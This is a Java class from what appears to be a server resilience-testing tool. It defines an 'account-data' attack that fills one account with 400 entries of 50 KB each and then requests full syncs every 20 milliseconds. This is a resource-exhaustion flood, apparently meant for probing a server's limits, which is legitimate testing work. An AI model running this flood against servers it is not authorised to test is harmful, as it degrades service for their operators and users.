package org.bongsu.attack;

import java.io.IOException;
import java.time.Duration;
import org.bongsu.json.Json;

/** As much account data as the server takes, and initial syncs that contain all of it. */
final class AccountDataFlood implements Attack {
  private static final int ENTRIES = 400;
  private static final String VALUE = "x".repeat(50_000);

  @Override
  public String name() {
    return "account-data";
  }

  @Override
  public String what() {
    return "%,d times 50 KB of account data, and syncs of all of it".formatted(ENTRIES);
  }

  @Override
  public Assault prepare(Target target) throws IOException, InterruptedException {
    Target.Account attacker = target.register("hoarder");
    for (int i = 0; i < ENTRIES; i++) {
      target.ask(
          Target.accountData(attacker, "org.example.hoard" + i, Json.object().put("value", VALUE)));
    }
    return new RepeatedRequests(target, 1, Duration.ofMillis(20), i -> Target.sync(attacker));
  }
}
